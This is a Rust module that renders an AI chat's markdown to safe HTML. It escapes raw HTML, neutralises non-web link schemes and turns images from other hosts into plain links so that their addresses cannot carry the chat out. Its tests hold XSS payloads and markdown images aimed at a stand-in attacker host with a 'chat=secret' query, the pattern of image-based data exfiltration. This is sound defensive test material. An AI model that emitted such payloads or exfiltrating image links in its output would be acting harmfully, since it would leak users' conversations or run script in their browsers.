//! Markdown for chat messages, rendered to HTML the page can trust: the
//! model's raw HTML is shown as text, links may only use web schemes, and
//! an image from another host is shown as a link to it, never loaded (its
//! address could carry the chat out; the page's CSP refuses such images too).

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};

/// Renders `text` to HTML. Fenced code blocks keep their language as a
/// `language-*` class, which the chat uses to highlight them.
pub fn render(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let events = Parser::new_ext(text, options).map(|event| match event {
        // The model's HTML is content, never markup.
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Link {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        }),
        other => other,
    });
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, foreign_images_as_links(events).into_iter());
    out
}

/// Images whose address is on this host (a relative path) stay images;
/// any other becomes a link showing its alt text, or its address when the
/// alt text is empty.
fn foreign_images_as_links<'a>(events: impl Iterator<Item = Event<'a>>) -> Vec<Event<'a>> {
    let mut out = Vec::new();
    // For each image open: the address it links to instead, and whether any
    // text has been shown for it yet.
    let mut open: Vec<Option<(CowStr<'a>, bool)>> = Vec::new();
    for event in events {
        match event {
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                let dest_url = safe_url(dest_url);
                if is_local(&dest_url) {
                    open.push(None);
                    out.push(Event::Start(Tag::Image {
                        link_type,
                        dest_url,
                        title,
                        id,
                    }));
                } else {
                    open.push(Some((dest_url.clone(), false)));
                    out.push(Event::Start(Tag::Link {
                        link_type,
                        dest_url,
                        title,
                        id,
                    }));
                }
            }
            Event::End(TagEnd::Image) => match open.pop().flatten() {
                Some((url, shown)) => {
                    if !shown {
                        out.push(Event::Text(url));
                    }
                    out.push(Event::End(TagEnd::Link));
                }
                None => out.push(Event::End(TagEnd::Image)),
            },
            other => {
                if let Some(Some((_, shown))) = open.last_mut() {
                    *shown = true;
                }
                out.push(other);
            }
        }
    }
    out
}

/// A relative address: on the IDE's own host.
fn is_local(url: &str) -> bool {
    let url = url.trim_start();
    let has_scheme = url.find(':').is_some_and(|colon| {
        url[..colon]
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b))
    });
    !has_scheme && !url.starts_with("//") && !url.starts_with("\\\\") && !url.starts_with("/\\")
}

/// [`render`] for the browser, loaded on first use: a build with
/// `cargo leptos build --split` moves the markdown parser into its own WASM
/// chunk, so the first load does not carry it. Other builds call it directly.
#[cfg(feature = "hydrate")]
#[leptos::lazy]
pub fn render_lazy(text: String) -> String {
    render(&text)
}

/// Keeps http(s), mailto and in-page links; anything else (`javascript:`,
/// `data:`, …) becomes a dead link.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let lower = url.trim_start().to_ascii_lowercase();
    let has_scheme = lower.find(':').is_some_and(|colon| {
        lower[..colon]
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b))
    });
    let allowed = ["http:", "https:", "mailto:"]
        .iter()
        .any(|s| lower.starts_with(s));
    if has_scheme && !allowed {
        CowStr::Borrowed("#")
    } else {
        url
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(markdown: &str, expected_html: &str) {
        assert_eq!(render(markdown).trim_end(), expected_html, "{markdown:?}");
    }

    #[test]
    fn renders_common_markdown() {
        check(
            "**bold** and `code`",
            "<p><strong>bold</strong> and <code>code</code></p>",
        );
        check("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>");
        check(
            "```jsx\nconst a = <b/>;\n```",
            "<pre><code class=\"language-jsx\">const a = &lt;b/&gt;;\n</code></pre>",
        );
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        check(
            "<script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        );
        check(
            "a <img src=x onerror=alert(1)> b",
            "<p>a &lt;img src=x onerror=alert(1)&gt; b</p>",
        );
    }

    #[test]
    fn only_web_links_survive() {
        check(
            "[x](https://example.com)",
            "<p><a href=\"https://example.com\">x</a></p>",
        );
        check("[x](/docs)", "<p><a href=\"/docs\">x</a></p>");
        check("[x](javascript:alert(1))", "<p><a href=\"#\">x</a></p>");
        check("[x]( JavaScript:alert(1))", "<p><a href=\"#\">x</a></p>");
        check(
            "![i](data:image/png;base64,AAAA)",
            "<p><img src=\"#\" alt=\"i\" /></p>",
        );
    }

    #[test]
    fn an_image_from_another_host_is_shown_as_a_link_never_loaded() {
        check(
            "![chart](https://evil.example/x.png?chat=secret)",
            "<p><a href=\"https://evil.example/x.png?chat=secret\">chart</a></p>",
        );
        check(
            "![](//evil.example/beacon)",
            "<p><a href=\"//evil.example/beacon\">//evil.example/beacon</a></p>",
        );
        check(
            "see ![a *b*](http://evil.example/i.png) here",
            "<p>see <a href=\"http://evil.example/i.png\">a <em>b</em></a> here</p>",
        );
        check(
            "![logo](/favicon.svg)",
            "<p><img src=\"/favicon.svg\" alt=\"logo\" /></p>",
        );
        assert!(!render("![x](https://evil.example/a.png)").contains("<img"));
    }
}
